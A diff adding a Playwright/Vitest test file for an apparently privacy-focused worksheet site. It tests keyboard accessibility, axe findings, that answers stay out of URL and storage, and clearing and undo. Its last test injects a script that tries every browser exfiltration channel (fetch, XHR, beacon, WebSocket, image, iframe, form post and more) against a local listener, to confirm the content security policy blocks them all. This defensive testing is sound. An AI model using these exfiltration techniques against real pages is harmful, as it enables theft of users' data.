@@ -1,0 +1,212 @@
+import { readFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import AxeBuilder from "axe-core";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { unzip } from "../../scripts/worksheet/testing";
+import { Site } from "./worksheet-site";
+
+const REFLECTION = "/worksheets/before-your-first-session/";
+const SUMMARY = "/worksheets/session-summary/";
+const SECRET = "Quokka7";
+
+let site: Site;
+beforeAll(async () => {
+	site = await Site.start();
+}, 180_000);
+afterAll(() => site?.stop());
+
+/** axe's findings in one line each; none is the only good number. */
+async function axe(page: Page): Promise<string[]> {
+	await page.evaluate(AxeBuilder.source);
+	return page.evaluate(async () => {
+		const { axe } = window as unknown as { axe: typeof AxeBuilder };
+		const result = await axe.run(document, {
+			runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
+		});
+		return result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html).join(" | ")}`);
+	});
+}
+
+async function downloaded(page: Page, click: () => Promise<void>): Promise<{ name: string; data: Uint8Array }> {
+	const [download] = await Promise.all([page.waitForEvent("download"), click()]);
+	return { name: download.suggestedFilename(), data: new Uint8Array(readFileSync(await download.path())) };
+}
+
+/** Answers whatever the keyboard's focus is on, with keys only. Says what kind of thing it was. */
+async function answer(page: Page): Promise<string> {
+	const kind = await page.evaluate(() => {
+		const e = document.activeElement;
+		if (e instanceof HTMLInputElement) return e.type;
+		if (e instanceof HTMLButtonElement) return e.dataset.next !== undefined ? "next" : (e.dataset.download ?? "button");
+		return e?.tagName.toLowerCase() ?? "";
+	});
+	if (kind === "text" || kind === "textarea") await page.keyboard.type(SECRET);
+	else if (kind === "date") await page.keyboard.type("05122026");
+	else if (kind === "radio" || kind === "checkbox") await page.keyboard.press("Space");
+	else if (kind === "select") await page.keyboard.press("ArrowDown");
+	return kind;
+}
+
+describe("a worksheet", () => {
+	it.each([REFLECTION, SUMMARY])("can be answered and taken away by keyboard alone: %s", { timeout: 120_000 }, async (path) => {
+		const { page, said } = await site.open(`${path}#before-you-start`);
+		let kind = "";
+		for (let keys = 0; keys < 1500 && kind !== "word"; keys++) {
+			await page.keyboard.press("Tab");
+			kind = await answer(page);
+			if (kind === "next") await page.keyboard.press("Enter");
+		}
+		const file = await downloaded(page, () => page.keyboard.press("Enter"));
+		const body = Buffer.from(unzip(file.data).get("word/document.xml") ?? "").toString("utf8");
+		expect(body.split(SECRET).length).toBeGreaterThan(8);
+		const questions = await page.locator("[data-question]").count();
+		expect(await page.textContent("[data-answered]")).toContain(`answered ${questions} of ${questions}`);
+		expect(file.name).toMatch(/^notes-\d{4}-\d\d-\d\d\.docx$/);
+		expect(said).toEqual([]);
+		await page.context().close();
+	});
+
+	it("keeps answers out of address, title, history, storage and console", async () => {
+		const { page, said } = await site.open(`${REFLECTION}#my-story`);
+		const title = await page.title();
+		await page.fill("#q-why-medicine", SECRET);
+		await page.click("[data-next]");
+		await page.click("[data-previous]");
+		await page.goto(`${site.address}${REFLECTION}#your-copy`);
+		await downloaded(page, () => page.click("[data-download=text]"));
+		const left = await page.evaluate(async () => ({
+			url: location.href,
+			title: document.title,
+			state: JSON.stringify(history.state),
+			stored: JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, await indexedDB.databases()]),
+		}));
+		expect(left.url).toBe(`${site.address}${REFLECTION}#your-copy`);
+		expect(left.title).toBe(title);
+		expect(left.state).toBe("null");
+		expect(left.stored).toBe('[{},{},"",[]]');
+		expect(said).toEqual([]);
+		await page.context().close();
+	});
+
+	it("warns before unsaved answers are left, and only then", async () => {
+		const { page } = await site.open(`${SUMMARY}#the-session`);
+		let asked = 0;
+		page.on("dialog", async (dialog) => {
+			asked += 1;
+			await dialog.accept();
+		});
+		await page.goto(`${site.address}/`);
+		expect(asked).toBe(0);
+		await page.goto(`${site.address}${SUMMARY}#the-session`);
+		await page.click("#q-topics");
+		await page.keyboard.type(SECRET);
+		await page.goto(`${site.address}/`);
+		expect(asked).toBe(1);
+		await page.goto(`${site.address}${SUMMARY}#the-session`);
+		await page.click("#q-topics");
+		await page.keyboard.type(SECRET);
+		await page.evaluate(() => {
+			location.hash = "#your-copy";
+		});
+		await downloaded(page, () => page.click("[data-download=text]"));
+		await page.goto(`${site.address}/`);
+		expect(asked).toBe(1);
+		await page.context().close();
+	});
+
+	it("clears after asking, and brings everything back", async () => {
+		const { page } = await site.open(`${SUMMARY}#your-copy`);
+		await page.evaluate(() => {
+			location.hash = "#action-plan";
+		});
+		await page.fill("[data-question=actions] [data-column=action]", SECRET);
+		await page.click("text=Add another action");
+		await page.keyboard.type("Second");
+		await page.evaluate(() => {
+			location.hash = "#your-copy";
+		});
+		await page.click("[data-clear]");
+		expect(await page.textContent("[data-report]")).toContain("cannot take back files you have downloaded");
+		await page.click("text=Yes, clear them");
+		expect(await page.inputValue("[data-question=actions] [data-column=action]")).toBe("");
+		await page.click("text=Undo");
+		const values = await page.locator("[data-question=actions] [data-column=action]").evaluateAll((fields) => fields.map((f) => (f as HTMLTextAreaElement).value));
+		expect(values.slice(0, 2)).toEqual([SECRET, "Second"]);
+		await page.context().close();
+	});
+
+	it("reads in full without script", async () => {
+		const { page } = await site.open(REFLECTION, { javaScriptEnabled: false });
+		const questions = page.locator("[data-question]");
+		expect(await questions.count()).toBeGreaterThan(50);
+		for (const question of await questions.all()) expect(await question.isVisible()).toBe(true);
+		expect(await page.locator("[data-steps], [data-copy], [data-turn]").locator("visible=true").count()).toBe(0);
+		expect(await page.locator("noscript").textContent()).toContain("filled in by hand");
+		await page.context().close();
+	});
+
+	it.each([320, 1280])("has no finding by axe at %i pixels", { timeout: 120_000 }, async (width) => {
+		for (const path of [REFLECTION, SUMMARY]) {
+			const { page } = await site.open(path, { viewport: { width, height: 900 } });
+			expect(await axe(page)).toEqual([]);
+			await page.evaluate(() => document.querySelector<HTMLDetailsElement>("[data-steps-box]")?.setAttribute("open", ""));
+			await page.click("[data-show-all]");
+			expect(await axe(page)).toEqual([]);
+			await page.context().close();
+		}
+	});
+});
+
+describe("nothing that a worksheet holds can be sent away", () => {
+	it("by any means a script has", { timeout: 60_000 }, async () => {
+		const arrived: string[] = [];
+		const listener = createServer((request, response) => {
+			arrived.push(`${request.method} ${request.url}`);
+			response.end();
+		});
+		listener.on("upgrade", (request, socket) => {
+			arrived.push(`upgrade ${request.url}`);
+			socket.destroy();
+		});
+		await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done));
+		const away = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+		site.put("/attack.js", attack(away));
+		site.put(`${REFLECTION}attacked.html`, site.built(`${REFLECTION}index.html`).replace("</body>", '<script src="/attack.js"></script></body>'));
+		const { page } = await site.open(`${REFLECTION}attacked.html`);
+		await page.waitForFunction(() => document.body.dataset.tried === "done", undefined, { polling: 100 });
+		await page.waitForTimeout(500);
+		expect(await page.getAttribute("body", "data-refused")).toBe("fetch xhr beacon websocket eventsource image script style frame form eval html");
+		expect(arrived).toEqual([]);
+		expect(site.requests.filter((path) => path.includes("stolen"))).toEqual([]);
+		listener.close();
+		await page.context().close();
+	});
+});
+
+/** A script on the page itself that tries every way out and notes which ones were refused. */
+function attack(away: string): string {
+	return `
+	const refused = [], here = location.origin + "/stolen", note = (n) => refused.push(n);
+	const wait = (ms) => new Promise((r) => setTimeout(r, ms));
+	const violations = [];
+	document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
+	const violated = async (act) => { const before = violations.length; try { act(); } catch { return true; } await wait(150); return violations.length > before; };
+	(async () => {
+		try { await fetch("${away}/fetch?x=1"); } catch { try { await fetch(here); } catch { note("fetch"); } }
+		await new Promise((done) => { const x = new XMLHttpRequest(); x.onerror = () => { note("xhr"); done(); }; x.onload = done; x.open("POST", "${away}/xhr"); x.send("x"); });
+		if (await violated(() => navigator.sendBeacon("${away}/beacon", "x"))) note("beacon");
+		if (await violated(() => new WebSocket("${away.replace("http", "ws")}/socket"))) note("websocket");
+		if (await violated(() => new EventSource("${away}/events"))) note("eventsource");
+		if (await violated(() => { new Image().src = "${away}/image?x=1"; })) note("image");
+		if (await violated(() => { const s = document.createElement("script"); s.src = "${away}/script"; document.head.append(s); })) note("script");
+		if (await violated(() => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${away}/style"; document.head.append(l); })) note("style");
+		if (await violated(() => { const f = document.createElement("iframe"); f.src = "${away}/frame"; document.body.append(f); })) note("frame");
+		if (await violated(() => { const f = document.createElement("form"); f.action = "${away}/form"; f.method = "post"; document.body.append(f); f.submit(); })) note("form");
+		try { eval("1"); } catch { note("eval"); }
+		try { document.createElement("div").innerHTML = "<b>x</b>"; } catch { note("html"); }
+		document.body.dataset.refused = refused.join(" ");
+		document.body.dataset.tried = "done";
+	})();`;
+}
